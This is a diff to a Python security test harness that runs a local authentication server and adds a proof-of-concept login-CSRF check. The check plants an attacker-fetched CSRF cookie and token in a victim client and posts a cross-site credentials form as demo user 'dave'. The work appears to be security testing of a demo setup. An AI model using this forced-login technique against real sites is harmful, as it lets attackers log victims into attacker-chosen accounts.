@@ -38,7 +38,9 @@ def main() -> None:
     try:
         wait_for_port(port, timeout=30)
         adapter = Adapter(
-            name="authjs", base_url=f"http://127.0.0.1:{port}", session_cookie=NAME,
+            name="authjs",
+            base_url=f"http://127.0.0.1:{port}",
+            session_cookie=NAME,
             users=DEMO_USERS,
         )
         client = Client(adapter)
@@ -77,6 +79,24 @@ def main() -> None:
         lines.append(
             "- the same cookie replayed to /auth/session every 0.5 s and replaced by each "
             f"re-issued one: still logged in after 22 s: {'yes' if alive else 'no'}"
+        )
+        # ECOSYSTEM's login-CSRF hypothesis: the double-submit check only compares the cookie
+        # with the form field, so a pair the attacker fetched from /auth/csrf, planted in the
+        # victim's browser (a sibling host can set an unprefixed cookie), passes it.
+        attacker = Client(adapter)
+        token = attacker.request("GET", "/auth/csrf").json()["csrfToken"]
+        planted = {k: v for k, v in attacker.cookies.items() if "csrf-token" in k}
+        victim = Client(adapter, dict(planted))
+        form = {"username": "dave", "password": DEMO_USERS["dave"][0], "csrfToken": token}
+        headers = {"Origin": "http://attacker.localhost", "Sec-Fetch-Site": "cross-site"}
+        posted = victim.request("POST", "/auth/callback/credentials", data=form, headers=headers)
+        who = victim.request("GET", "/me")
+        lines.append(
+            "- login CSRF with a planted pair: the attacker's own csrf cookie "
+            f"({', '.join(planted)}) set in the victim's browser, and a cross-site form posting "
+            f"its token with dave's password to /auth/callback/credentials: status "
+            f"{posted.status_code}; the victim's /me then shows "
+            f"{who.json().get('user') if who.status_code == 200 else who.status_code}"
         )
     finally:
         proc.terminate()
